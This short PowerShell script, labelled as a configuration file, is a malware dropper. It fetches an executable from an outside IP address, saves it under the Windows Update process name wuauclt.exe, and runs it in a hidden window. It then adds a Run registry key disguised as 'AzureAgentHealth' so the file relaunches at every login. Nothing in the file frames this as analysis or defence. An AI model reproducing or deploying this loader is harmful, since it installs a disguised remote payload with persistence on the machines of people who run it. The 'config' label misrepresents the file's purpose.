# config 0617 v2
Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination $env:TEMP\wuauclt.exe
Start-Process -WindowStyle Hidden $env:TEMP\wuauclt.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'AzureAgentHealth' -Value '$env:TEMP\wuauclt.exe' -PropertyType String -Force
